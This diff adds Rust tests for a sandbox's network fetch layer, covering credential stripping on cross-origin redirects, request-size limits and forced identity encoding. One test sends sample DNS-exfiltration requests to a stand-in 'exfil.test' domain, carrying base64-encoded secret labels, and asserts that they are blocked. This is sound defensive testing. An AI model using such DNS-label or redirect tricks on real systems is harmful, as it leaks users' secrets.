@@ -782,6 +782,22 @@ fn cross_origin_redirects_do_not_resend_credentials() {
     assert_eq!(error_type(&results[2]), "http_error", "{}", results[2]);
     assert_eq!(reqs.len(), 5, "{reqs:?}");
     assert_no_secret(&outcome);
+
+    // A value the guest read itself (secrets/read) and sent raw is held back the same way,
+    // in a header and in a body.
+    let calls = json!([
+        {"fn": "fetch", "req": {"url": server.url(&format!("/redirect?to={to}")), "headers": {"x-token": SECRET, "x-plain": "kept"}}},
+        {"fn": "fetch", "req": {"method": "POST", "url": server.url(&format!("/redirect?code=307&to={to}")), "body": format!("k={SECRET}")}},
+    ]);
+    let (results, outcome) = run_probe(&c, calls);
+    let reqs = &server.requests()[5..];
+    assert_eq!(reqs[0].header("x-token"), Some(SECRET), "same origin: sent");
+    assert_eq!(reqs[1].header("x-token"), None, "{:?}", reqs[1]);
+    assert_eq!(reqs[1].header("x-plain"), Some("kept"));
+    assert_eq!(results[0]["status"], 200);
+    assert_eq!(error_type(&results[1]), "http_error", "{}", results[1]);
+    assert_eq!(reqs.len(), 3, "{reqs:?}");
+    assert_no_secret(&outcome);
 }
 
 #[test]
@@ -1010,6 +1026,71 @@ fn a_slow_server_cannot_outlive_the_execution_timeout() {
         "{:?}",
         started.elapsed()
     );
+}
+
+#[test]
+fn name_lookups_count_against_the_request_budget() {
+    let server = TestServer::start();
+    let resolver = TestResolver::new(&[("localhost", &["127.0.0.1"])]);
+    let mut e = loopback();
+    e.allowed_domains.push("*.exfil.test".into());
+    e.max_requests = 2;
+    let c = with_resolver(ctx(e), resolver.clone());
+    // Names under a wildcard the guest's owner controls could carry data to its DNS server.
+    let calls = json!([
+        fetch("http://c2stdGVzdA.exfil.test/"),
+        fetch("http://U0VDUkVU.exfil.test/"),
+        fetch("http://more.exfil.test/"),
+        fetch(&server.url("/ok")),
+    ]);
+    let (results, _) = run_probe(&c, calls);
+    assert_eq!(error_type(&results[0]), "dns_error");
+    assert_eq!(error_type(&results[1]), "dns_error");
+    assert_eq!(error_type(&results[2]), "rate_limited");
+    assert_eq!(error_type(&results[3]), "rate_limited");
+    assert_eq!(resolver.lookups.load(Ordering::SeqCst), 2);
+    assert!(server.requests().is_empty());
+}
+
+#[test]
+fn many_references_to_a_secret_are_refused_before_they_fill_memory() {
+    let server = TestServer::start();
+    let mut e = loopback();
+    e.max_request_bytes = 1024;
+    let mut c = ctx(e);
+    let big = "k".repeat(4096);
+    c.secrets.insert("BIG".into(), big.clone());
+    let many = "{{secret:BIG}}".repeat(20_000);
+    let calls = json!([
+        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": many}},
+        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"x-big": many}}},
+        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"x-one": "{{secret:BIG}}"}}},
+    ]);
+    let (results, outcome) = run_probe(&c, calls);
+    assert_eq!(error_type(&results[0]), "request_too_large", "{}", results[0]);
+    assert_eq!(error_type(&results[1]), "request_too_large", "{}", results[1]);
+    assert_eq!(results[2]["status"], 200, "one long secret in a header is fine");
+    assert_eq!(server.requests().len(), 1);
+    assert!(!outcome.output.contains(&big));
+}
+
+#[test]
+fn compression_is_never_asked_for_and_bodiless_responses_pass_any_length() {
+    let server = TestServer::start();
+    let mut e = loopback();
+    e.allowed_methods.push("HEAD".into());
+    e.max_response_bytes = 1000;
+    let calls = json!([
+        {"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"accept-encoding": "gzip, br"}}},
+        {"fn": "fetch", "req": {"method": "HEAD", "url": server.url("/big?n=100000")}},
+        fetch(&server.url("/big?n=100000")),
+    ]);
+    let (results, _) = run_probe(&ctx(e), calls);
+    // A compressed body would carry a secret past redaction: the host asks for identity.
+    assert_eq!(server.requests()[0].header("accept-encoding"), Some("identity"));
+    assert_eq!(results[1]["status"], 200, "{}", results[1]);
+    assert_eq!(results[1]["headers"]["content-length"], "100000", "{}", results[1]);
+    assert_eq!(error_type(&results[2]), "response_too_large");
 }
 
 #[test]
